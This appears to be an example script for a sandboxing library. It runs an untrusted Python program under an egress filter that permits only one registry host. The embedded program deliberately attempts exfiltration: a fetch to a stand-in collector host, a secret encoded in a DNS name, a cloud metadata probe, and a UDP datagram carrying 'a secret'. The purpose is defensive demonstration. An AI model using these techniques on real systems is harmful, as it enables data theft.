// A program that is not trusted, and may fetch from one service, as much as it is given: a function decides on each name
// and connection. Works without root, and without a network outside: the service runs in this process.
import { createServer } from 'node:http'
import { Image, run } from 'caisson'

const service = createServer((request, response) => response.end(`packages for ${request.headers.host}\n`))
await new Promise((resolve) => service.listen(0, '127.0.0.1', resolve))

const PROGRAM = `
import socket, urllib.request

def attempt(what, work):
    try: print(what + ":", work())
    except Exception as error: print(what + ":", getattr(error, "reason", error))

def fetch(url): return urllib.request.urlopen(url, timeout=5).read().decode().strip()
def tell(address): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"a secret", address)

attempt("the registry", lambda: fetch("http://registry.example/"))
attempt("another port of it", lambda: fetch("http://registry.example:8080/"))
attempt("another name", lambda: fetch("http://collector.example/"))
attempt("a secret in a name", lambda: socket.gethostbyname("c2VjcmV0.collector.example"))
attempt("cloud metadata", lambda: fetch("http://169.254.169.254/"))
attempt("this machine", lambda: fetch("http://127.0.0.1:${service.address().port}/"))
attempt("a datagram", lambda: tell(("8.8.8.8", 53)))
`

/** One name, one port; it is served by a mirror of ours. Every other question is answered with no. */
function egress({ protocol, host, port, address }) {
  const asked = protocol === 'dns' ? `name ${host}` : `connection to ${host ?? address}:${port}`
  const allowed = host === 'registry.example' && (protocol === 'dns' || port === 80)
  console.log(`${allowed ? 'allowed' : 'denied '} ${asked}`)
  return allowed ? { rewrite: `127.0.0.1:${service.address().port}` } : 'deny'
}

const result = await run(await Image.host(), ['python3', '-c', PROGRAM], { egress, timeout: '30s' })
console.log(`\n${result.stdout}${result.stderr}`)
const { connections, sentBytes, receivedBytes } = result.egress
console.log(`${connections} connection, ${sentBytes} bytes sent, ${receivedBytes} received`)
service.close()
